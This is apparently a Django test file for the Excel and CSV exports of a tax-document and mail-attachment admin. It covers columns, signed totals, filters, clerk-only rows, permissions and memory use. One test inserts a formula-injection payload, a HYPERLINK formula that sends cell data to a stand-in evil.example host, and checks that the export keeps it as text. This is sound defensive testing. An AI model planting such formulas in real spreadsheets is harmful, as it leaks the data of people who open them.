"""The Document and Attachment lists export what they show to Excel and CSV: their filters, search
and order kept, amounts as numbers (a credit note negative, a guide not summed), dates as dates,
links to each document; a clerk's export holds only their mailbox's rows; names that look like
formulas stay text; thousands of rows are read in a few queries with flat memory."""

from __future__ import annotations

import csv
import datetime as dt
import io
import tracemalloc
from decimal import Decimal

import pytest
from django.contrib.admin import site
from django.contrib.auth.models import User
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from pipeline import samples
from tests.support.inline import process_folder
from tests.unit.test_document_money_pages import SPANISH, Books
from tests.unit.test_mixed_month import MONTH, _mail
from webapp.documents.exports import claim_state
from webapp.documents.models import ClaimState, DecisionCode, Document
from webapp.documents.totals import document_totals
from webapp.exports_admin import PESOS
from webapp.inbox.models import Attachment, Blob, Mailbox, MailMessage

pytestmark = pytest.mark.django_db

DOCUMENTS = "admin:documents_document_export_{}"
ATTACHMENTS = "admin:inbox_attachment_export_{}"
SANTIAGO_MAIL = dt.datetime(2026, 11, 6, 14, 30, tzinfo=dt.UTC)
#: The mail's arrival on Santiago's clock (summer time, UTC-3), as a spreadsheet cell holds it.
WALL = dt.datetime(2026, 11, 6, 11, 30, tzinfo=dt.UTC).replace(tzinfo=None)


@pytest.fixture
def books() -> Books:
    books = Books()
    MailMessage.objects.filter(mailbox=books.norte).update(received_at=SANTIAGO_MAIL)
    return books


def _csv(client, name: str, **params) -> list[dict[str, str]]:
    response = client.get(reverse(name.format("csv")), params, **SPANISH)
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    data = b"".join(response.streaming_content)
    assert data.startswith("\ufeff".encode()), "a BOM, so Excel reads UTF-8"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def _xlsx(client, name: str, **params):
    response = client.get(reverse(name.format("xlsx")), params, **SPANISH)
    assert response.status_code == 200, response.status_code
    assert 'filename="' in response["Content-Disposition"] and ".xlsx" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    return header, [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


def test_the_document_export_holds_the_lists_columns_and_values_in_both_formats(admin_client, books):
    header, rows = _xlsx(admin_client, DOCUMENTS)
    assert header[:9] == [
        "Tipo",
        "Nombre del tipo",
        "Folio",
        "RUT emisor",
        "Razón social emisor",
        "RUT receptor",
        "Fecha de emisión",
        "Llegada del correo",
        "Recepción en el SII",
    ]
    assert {"Exento", "Neto", "IVA", "Total", "Total con signo", "Plazo para reclamar", "PDF imprimible"} <= set(header)
    by_folio = {row["Folio"].value: row for row in rows}
    assert sorted(by_folio) == [1, 2, 3, 4, 9], "every document of the list, sur's debit note too"

    invoice, note, guide, dollars = (by_folio[folio] for folio in (1, 2, 3, 4))
    assert invoice["Tipo"].value == 33 and invoice["RUT emisor"].value == "76086428-5"
    assert invoice["Fecha de emisión"].value == dt.datetime.combine(dt.date(2026, 11, 2), dt.time())
    assert invoice["Fecha de emisión"].number_format == "DD-MM-YYYY"
    assert invoice["Llegada del correo"].value == WALL, "in Santiago's time"
    assert invoice["Neto"].value == 100_000 and invoice["Neto"].number_format == PESOS
    assert invoice["Total con signo"].value == 120_000 and invoice["En los totales"].value == "Suma"
    assert note["Total"].value == 11_900 and note["Total con signo"].value == -11_900
    assert note["En los totales"].value == "Resta (nota de crédito)"
    assert guide["Total con signo"].value == 0 and guide["En los totales"].value == "No se suma (guía de despacho)"
    assert dollars["Moneda"].value == "USD" and dollars["Total en su moneda"].value == 28689.4
    assert invoice["Moneda"].value == "CLP" and invoice["Total en su moneda"].value is None
    assert invoice["Timbre electrónico (TED)"].value == "Sin revisar"
    assert (
        invoice["Página del documento"].value
        == f"http://testserver/admin/documents/document/{books.invoice.pk}/change/"
    )
    assert invoice["XML"].value is None, "no XML is stored for it: no link"

    summed = sum(row["Total con signo"].value for row in rows)
    assert summed == document_totals(Document.objects.all()).total == 33_058_100

    lines = {int(line["Folio"]): line for line in _csv(admin_client, DOCUMENTS)}
    assert sorted(lines) == [1, 2, 3, 4, 9]
    assert list(lines[1])[:3] == ["Tipo", "Nombre del tipo", "Folio"]
    assert lines[2]["Total con signo"] == "-11900" and lines[3]["Total con signo"] == "0"
    assert lines[1]["Fecha de emisión"] == "02-11-2026" and lines[1]["Llegada del correo"] == "06-11-2026 11:30"
    assert lines[4]["Total en su moneda"] == "28689,4000", "a decimal comma, as Excel in es-CL reads it"
    assert lines[9]["Llegada del correo"] == "", "a mail without its arrival time: blank"


def test_the_claim_state_and_deadline_are_exported(admin_client, books):
    deadline = timezone.now().replace(microsecond=0) + dt.timedelta(days=3)
    Document.objects.filter(pk=books.invoice.pk).update(claim_deadline=deadline, claim_deadline_estimated=True)
    rows = {row["Folio"].value: row for row in _xlsx(admin_client, DOCUMENTS)[1]}
    with translation.override("es"):
        assert rows[1]["Aceptación o reclamo"].value == str(ClaimState.PENDING.label)
    assert rows[1]["Plazo para reclamar"].value == timezone.localtime(deadline).replace(tzinfo=None)
    assert rows[1]["Plazo estimado"].value == "Sí"
    assert rows[4]["Aceptación o reclamo"].value is None, "an export invoice is not claimed"

    now = timezone.now()
    invoice = Document(doc_type=33, claim_deadline=now - dt.timedelta(seconds=1))
    assert claim_state(invoice, now) == ClaimState.TACITLY_ACCEPTED
    invoice.claim_decision = DecisionCode.ERM
    assert claim_state(invoice, now) == ClaimState.ACCEPTED
    invoice.claim_decision = DecisionCode.RFT
    assert claim_state(invoice, now) == ClaimState.CLAIMED
    assert claim_state(Document(doc_type=33, claim_deadline=now + dt.timedelta(days=1)), now) == ClaimState.PENDING
    assert claim_state(Document(doc_type=61), now) is None


def test_the_export_keeps_the_lists_filters_search_and_order(admin_client, books):
    notes = _csv(admin_client, DOCUMENTS, kind="credit_note")
    assert [line["Folio"] for line in notes] == ["2"]
    found = _xlsx(admin_client, DOCUMENTS, q="Secreta")[1]
    assert [row["Razón social emisor"].value for row in found] == ["Comercial Sur Secreta Ltda"]
    by_folio = _csv(admin_client, DOCUMENTS, q="1")
    assert [line["Folio"] for line in by_folio] == ["1"], "a folio searched for"
    folio = str(list(site._registry[Document].list_display).index("folio") + 1)  # after the checkbox
    ordered = _csv(admin_client, DOCUMENTS, o=folio, kind="invoice")
    assert [line["Folio"] for line in ordered] == ["1", "4"]
    descending = _csv(admin_client, DOCUMENTS, o=f"-{folio}", kind="invoice")
    assert [line["Folio"] for line in descending] == ["4", "1"]
    every_page = _csv(admin_client, DOCUMENTS, p="2")
    assert len(every_page) == 5, "the page number is not a filter: the export holds every page"


def test_the_list_shows_the_export_buttons_with_its_query_string(admin_client, books):
    for name, url in (
        (DOCUMENTS, "admin:documents_document_changelist"),
        (ATTACHMENTS, "admin:inbox_attachment_changelist"),
    ):
        response = admin_client.get(reverse(url), {"q": "norte", "p": "1"}, **SPANISH)
        page = response.content.decode()
        assert response.status_code == 200
        assert "Exportar a Excel" in page and "Exportar CSV" in page
        assert f'href="{reverse(name.format("xlsx"))}?q=norte"' in page
        assert f'href="{reverse(name.format("csv"))}?q=norte"' in page
    english = admin_client.get(reverse("admin:documents_document_changelist"), HTTP_ACCEPT_LANGUAGE="en")
    assert "Export to Excel" in english.content.decode() and "Export CSV" in english.content.decode()
    assert 'id="totals-bar"' in english.content.decode(), "the list's own template is kept under the buttons"


def test_a_clerks_export_holds_only_their_mailboxs_rows(client, books):
    client.force_login(books.clerk)
    lines = _csv(client, DOCUMENTS)
    assert sorted(int(line["Folio"]) for line in lines) == [1, 2, 3, 4]
    assert all(line["Buzón"] == "norte" for line in lines)
    assert [row["Folio"].value for row in _xlsx(client, DOCUMENTS, q="77777777-7")[1]] == []
    forced = {"message__mailbox__id__exact": str(books.sur.pk)}
    assert {line["Buzón"] for line in _csv(client, ATTACHMENTS, **forced)} <= {"norte"}, "sur's id forced in"
    attachments = _csv(client, ATTACHMENTS)
    assert {line["Buzón"] for line in attachments} == {"norte"}
    assert not any(
        "Secret" in line["Nombre del archivo"] or "sur" in line["Nombre del archivo"] for line in attachments
    )

    stranger = User.objects.create_user("stranger", password="x", is_staff=True)
    client.force_login(stranger)
    for name in (DOCUMENTS, ATTACHMENTS):
        for file_format in ("csv", "xlsx"):
            assert client.get(reverse(name.format(file_format))).status_code == 403, "no view permission: no export"


def test_a_supplier_name_that_looks_like_a_formula_stays_text(admin_client, books):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Ver")'
    Document.objects.filter(pk=books.invoice.pk).update(issuer_name=hostile)
    rows = {row["Folio"].value: row for row in _xlsx(admin_client, DOCUMENTS)[1]}
    assert rows[1]["Razón social emisor"].value == hostile and rows[1]["Razón social emisor"].data_type == "s"
    lines = {line["Folio"]: line for line in _csv(admin_client, DOCUMENTS)}
    assert lines["1"]["Razón social emisor"] == "'" + hostile


def test_the_attachment_export_holds_the_mail_and_the_file(admin_client, books):
    message = MailMessage.objects.create(
        mailbox=books.norte,
        source_id="m1",
        subject="Factura 1234",
        sender="ventas@austral.cl",
        received_at=SANTIAGO_MAIL,
    )
    blob = Blob.objects.create(sha256="ab" * 32, size=2048, content_type="application/pdf", storage_name="ab")
    pdf = Attachment.objects.create(
        message=message,
        position=0,
        original_filename="factura.pdf",
        filename="factura.pdf",
        content_type="application/pdf",
        blob=blob,
        status=Attachment.Status.STORED,
    )
    header, rows = _xlsx(admin_client, ATTACHMENTS, q="factura.pdf")
    assert header == [
        "Buzón",
        "Asunto del correo",
        "Remitente",
        "Recibido el",
        "Nombre del archivo",
        "Tipo de archivo",
        "Tamaño (bytes)",
        "Estado",
        "SHA-256",
        "Descargar",
    ]
    (row,) = rows
    assert [cell.value for cell in row.values()] == [
        "norte",
        "Factura 1234",
        "ventas@austral.cl",
        WALL,
        "factura.pdf",
        "application/pdf",
        2048,
        "Guardado",
        "ab" * 32,
        f"http://testserver{reverse('inbox:attachment_download', args=[pdf.pk])}",
    ]
    (line,) = _csv(admin_client, ATTACHMENTS, q="factura.pdf")
    assert line["Recibido el"] == "06-11-2026 11:30" and line["Tamaño (bytes)"] == "2048"
    everything = _csv(admin_client, ATTACHMENTS)
    assert len(everything) == Attachment.objects.count() == 5


def test_a_mixed_month_read_from_mail_exports_its_signed_totals(admin_client, tmp_path):
    mails = tuple(_mail(xml, index) for index, (xml, _) in enumerate(MONTH))
    process_folder(tmp_path / "month", mails, name="mes", why="")
    lines = _csv(admin_client, DOCUMENTS)
    assert len(lines) == len(MONTH)
    assert sum(int(line["Total con signo"]) for line in lines) == document_totals(Document.objects.all()).total
    guide = next(line for line in lines if line["Tipo"] == "52")
    assert guide["Total con signo"] == "0" and guide["En los totales"] == "No se suma (guía de despacho)"
    note = next(line for line in lines if line["Tipo"] == "61")
    assert int(note["Total con signo"]) < 0 and note["Llegada del correo"], "the mail's arrival is known"
    assert all(line["XML"].startswith("http://testserver/downloads/documents/") for line in lines)


def _many(count: int) -> None:
    """Documents in a mailbox of their own, up to `count` of them."""
    box, _ = Mailbox.objects.get_or_create(name="grande")
    first = Document.objects.filter(mailbox=box).count()
    Document.objects.bulk_create(
        Document(
            mailbox=box,
            doc_type=33 if number % 10 else 61,
            folio=number,
            issuer_rut=samples.valid_rut(76_000_000 + number % 500),
            issuer_name=f"Proveedor {number % 500} SpA",
            issue_date=dt.date(2026, 11, 1 + number % 28),
            net=10_000 + number,
            vat=1_900,
            total=11_900 + number,
            foreign_total=Decimal(0),
        )
        for number in range(first + 1, count + 1)
    )


def _measured_csv(client) -> tuple[int, int, int]:
    """(rows, queries, Python heap peak in bytes) of one CSV export of every document."""
    tracemalloc.start()
    with CaptureQueriesContext(connection) as queries:
        lines = 0
        response = client.get(reverse(DOCUMENTS.format("csv")), **SPANISH)
        for chunk in response.streaming_content:
            lines += chunk.count(b"\n")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return lines - 1, len(queries), peak


def test_thousands_of_rows_are_read_in_chunks_in_a_few_queries_with_flat_memory(admin_client):
    # both exports read three chunks or more, so each holds at most two chunks of rows at a time
    _many(4_500)
    _measured_csv(admin_client)  # the first export of the process fills caches: not what is measured
    small_rows, small_queries, small_peak = _measured_csv(admin_client)
    _many(12_000)
    big_rows, big_queries, big_peak = _measured_csv(admin_client)
    assert (small_rows, big_rows) == (4_500, 12_000)
    assert big_queries == small_queries, "no query per row or per chunk of rows"
    assert big_peak < small_peak * 1.2, f"memory grows with the rows: {small_peak} -> {big_peak} bytes"
